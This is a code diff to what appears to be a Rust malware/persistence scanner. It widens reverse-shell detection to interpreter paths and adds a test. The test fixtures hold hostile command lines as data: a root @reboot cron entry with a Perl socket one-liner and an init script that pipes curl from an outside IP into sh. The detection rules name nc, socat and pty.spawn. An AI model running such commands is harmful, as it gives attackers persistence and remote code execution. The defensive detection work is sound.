@@ -222,11 +222,9 @@ fn command_patterns(text: &str, c: &mut Collector) {
             && (words.contains(&"-e") || words.contains(&"-c") || t.contains("mkfifo")))
         || (has_word("socat") && (t.contains("exec:") || t.contains("system:")))
         || (SHELLS.contains(&first) && words.get(1) == Some(&"-i") && words.len() <= 3)
-        || ((first.starts_with("python")
-            || first.starts_with("perl")
-            || first.starts_with("ruby")
-            || first.starts_with("php"))
-            && (t.contains("socket") || t.contains("fsockopen") || t.contains("pty.spawn")))
+        || (words.iter().map(|w| basename(w)).any(|w| {
+            w.starts_with("python") || w.starts_with("perl") || w.starts_with("ruby") || w.starts_with("php")
+        }) && (t.contains("socket") || t.contains("fsockopen") || t.contains("pty.spawn")))
         || (t.contains("0<&") && t.contains("exec"))
         || (has_word("telnet") && t.contains("| /bin/sh"));
     if reverse {
@@ -597,6 +595,12 @@ mod tests {
         assert!(sudo.indicators.iter().any(|i| i.contains("passwordless sudo")), "{sudo:?}");
         let link = p("/etc/rc2.d/S99x", "/dev/shm/.x/run", "");
         assert!(link.indicators.iter().any(|i| i.contains("points into a world-writable")), "{link:?}");
+        let cron = p(
+            "/etc/cron.d/x",
+            "",
+            r#"@reboot root /usr/bin/perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'\n"#,
+        );
+        assert!(cron.indicators.contains(&"reverse-shell pattern".to_string()), "an interpreter one-liner: {cron:?}");
         let init = p("/etc/init.d/x", "", r#"#!/bin/sh\nnohup sh -c "curl -fsSL http://198.51.100.77/n | sh" &\n"#);
         assert!(init.indicators.contains(&"downloads and runs code".to_string()), "{init:?}");
         let plain = p("/etc/profile.d/locale.sh", "", r"export LANG=C.UTF-8\n");
